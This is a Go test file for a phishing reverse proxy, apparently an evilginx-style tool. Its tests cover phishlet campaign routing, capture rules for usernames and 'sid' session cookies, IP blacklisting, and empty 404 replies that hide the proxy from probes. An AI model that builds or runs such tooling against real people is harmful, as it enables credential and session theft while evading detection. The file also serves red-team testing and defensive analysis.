package core

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/snarelabs/snare/database"
)

func testProxy(t *testing.T) *HttpProxy {
	t.Helper()
	dir := t.TempDir()

	cfg, err := NewConfig(dir)
	require.NoError(t, err)

	pl, err := ParsePhishlet([]byte(testPhishletYaml))
	require.NoError(t, err)
	cfg.AddPhishlet(pl)

	db, err := database.NewDatabase(filepath.Join(dir, "data.db"))
	require.NoError(t, err)
	t.Cleanup(func() { db.Close() })

	bl, err := NewBlacklist(filepath.Join(dir, "blacklist.txt"))
	require.NoError(t, err)

	ns, err := NewNameserver(cfg)
	require.NoError(t, err)

	crt_db, err := NewCertDb(filepath.Join(dir, "crt"), cfg, ns)
	require.NoError(t, err)

	tracker := NewSessionTracker(time.Hour, db)
	t.Cleanup(tracker.Stop)

	hp, err := NewHttpProxy("127.0.0.1", 0, cfg, crt_db, db, bl, nil, tracker, true)
	require.NoError(t, err)
	return hp
}

// testProxyWithOrigin routes an active campaign at login.phish.test to a
// local TLS origin and counts the requests that reach it.
func testProxyWithOrigin(t *testing.T, ai *AIClient) (*HttpProxy, *int32) {
	t.Helper()
	dir := t.TempDir()

	var hits int32
	origin := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		atomic.AddInt32(&hits, 1)
		fmt.Fprint(w, "origin content ok")
	}))
	t.Cleanup(origin.Close)

	yaml := fmt.Sprintf(`name: origin
author: tester
proxy_hosts:
  - phish_sub: 'login'
    orig_sub: ''
    domain: '%s'
    session: true
    is_landing: true
credentials:
  username:
    key: '^username$'
    search: '(.*)'
    type: 'post'
auth_tokens:
  - name: 'session_token'
    type: 'cookie'
    key: 'sid'
    domain: '%s'
`, strings.TrimPrefix(origin.URL, "https://"), strings.TrimPrefix(origin.URL, "https://"))

	cfg, err := NewConfig(dir)
	require.NoError(t, err)

	pl, err := ParsePhishlet([]byte(yaml))
	require.NoError(t, err)
	cfg.AddPhishlet(pl)

	db, err := database.NewDatabase(filepath.Join(dir, "data.db"))
	require.NoError(t, err)
	t.Cleanup(func() { db.Close() })

	bl, err := NewBlacklist(filepath.Join(dir, "blacklist.txt"))
	require.NoError(t, err)

	ns, err := NewNameserver(cfg)
	require.NoError(t, err)

	crt_db, err := NewCertDb(filepath.Join(dir, "crt"), cfg, ns)
	require.NoError(t, err)

	tracker := NewSessionTracker(time.Hour, db)
	t.Cleanup(tracker.Stop)

	hp, err := NewHttpProxy("127.0.0.1", 0, cfg, crt_db, db, bl, ai, tracker, true)
	require.NoError(t, err)

	require.NoError(t, hp.ActivateCampaign(&Campaign{Id: "c1", Phishlet: "origin", Hostname: "phish.test", Active: true}))
	return hp, &hits
}

func TestUnroutedHostNeverReachesOrigin(t *testing.T) {
	hp, hits := testProxyWithOrigin(t, nil)

	req := httptest.NewRequest("GET", "https://stranger.phish.test/admin", nil)
	w := httptest.NewRecorder()
	hp.Proxy.ServeHTTP(w, req)

	assert.Equal(t, http.StatusNotFound, w.Code)
	assert.Empty(t, w.Body.String())
	assert.Equal(t, int32(0), atomic.LoadInt32(hits))
}

func TestClassifierTimeoutStillReachesOrigin(t *testing.T) {
	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(500 * time.Millisecond)
	}))
	defer slow.Close()

	ai := NewAIClient(&AIConfig{
		Enabled:        true,
		Endpoint:       slow.URL,
		TimeoutMs:      50,
		BlockThreshold: 0.5,
	})
	hp, hits := testProxyWithOrigin(t, ai)

	req := httptest.NewRequest("GET", "https://login.phish.test/", nil)
	w := httptest.NewRecorder()
	hp.Proxy.ServeHTTP(w, req)

	assert.Equal(t, http.StatusOK, w.Code)
	assert.Contains(t, w.Body.String(), "origin content ok")
	assert.Equal(t, int32(1), atomic.LoadInt32(hits))
}

func TestStartStop(t *testing.T) {
	hp := testProxy(t)

	require.NoError(t, hp.Start())
	addr := hp.sniListener.Addr().String()

	c, err := net.DialTimeout("tcp", addr, time.Second)
	require.NoError(t, err)
	c.Close()

	hp.Stop()
	time.Sleep(50 * time.Millisecond)

	_, err = net.DialTimeout("tcp", addr, time.Second)
	assert.Error(t, err)
}

func TestCampaignRouting(t *testing.T) {
	hp := testProxy(t)

	assert.Nil(t, hp.getActiveByPhishHost("login.phish.io"))

	cm := &Campaign{Id: "c1", Phishlet: "example", Hostname: "phish.io", Active: true}
	require.NoError(t, hp.ActivateCampaign(cm))

	ac := hp.getActiveByPhishHost("login.phish.io")
	require.NotNil(t, ac)
	assert.Equal(t, "example", ac.pl.Name)
	assert.True(t, hp.IsActiveHostname("api.phish.io"))
	assert.False(t, hp.IsActiveHostname("evil.other.io"))

	hosts := hp.ActiveHostnames()
	assert.Len(t, hosts, 3)
	assert.Contains(t, hosts, "cdn.phish.io")

	hp.DeactivateCampaign("c1")
	assert.Nil(t, hp.getActiveByPhishHost("login.phish.io"))
}

func TestActivateCampaignUnknownPhishlet(t *testing.T) {
	hp := testProxy(t)
	err := hp.ActivateCampaign(&Campaign{Id: "c1", Phishlet: "nonexistent", Hostname: "phish.io"})
	assert.Error(t, err)
}

func TestBlockRequestCarriesNoDiagnostics(t *testing.T) {
	hp := testProxy(t)

	req := httptest.NewRequest("GET", "https://unknown.host/admin?probe=1", nil)
	_, resp := hp.blockRequest(req)
	require.NotNil(t, resp)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
	assert.Equal(t, int64(0), resp.ContentLength)
}

func TestGenericErrorCarriesNoDiagnostics(t *testing.T) {
	hp := testProxy(t)

	req := httptest.NewRequest("GET", "https://login.phish.io/", nil)
	resp := hp.genericError(req)
	require.NotNil(t, resp)
	assert.Equal(t, http.StatusBadGateway, resp.StatusCode)
	assert.Equal(t, int64(0), resp.ContentLength)
}

func TestDeleteRequestCookie(t *testing.T) {
	hp := testProxy(t)

	req := httptest.NewRequest("GET", "https://login.phish.io/", nil)
	req.Header.Set("Cookie", "a=1; track=xyz; b=2")

	hp.deleteRequestCookie(req, "track")
	assert.Equal(t, "a=1; b=2", req.Header.Get("Cookie"))

	hp.deleteRequestCookie(req, "a")
	hp.deleteRequestCookie(req, "b")
	assert.Empty(t, req.Header.Get("Cookie"))
}

func TestSessionCookieNameStable(t *testing.T) {
	n1 := getSessionCookieName("example", "abcd1234")
	n2 := getSessionCookieName("example", "abcd1234")
	n3 := getSessionCookieName("other", "abcd1234")

	assert.Equal(t, n1, n2)
	assert.NotEqual(t, n1, n3)
	assert.GreaterOrEqual(t, len(n1), 6)
	assert.LessOrEqual(t, len(n1), 10)
}

func TestBlacklistPersistsAcrossReload(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "blacklist.txt")

	bl, err := NewBlacklist(path)
	require.NoError(t, err)
	require.NoError(t, bl.AddIP("203.0.113.7"))
	assert.True(t, bl.IsBlacklisted("203.0.113.7"))
	assert.False(t, bl.IsBlacklisted("203.0.113.8"))

	bl2, err := NewBlacklist(path)
	require.NoError(t, err)
	assert.True(t, bl2.IsBlacklisted("203.0.113.7"))
}

func TestBlacklistCIDR(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "blacklist.txt")
	require.NoError(t, os.WriteFile(path, []byte("192.0.2.0/24\n# comment\n"), 0644))

	bl, err := NewBlacklist(path)
	require.NoError(t, err)
	assert.True(t, bl.IsBlacklisted("192.0.2.55"))
	assert.False(t, bl.IsBlacklisted("192.0.3.55"))
}
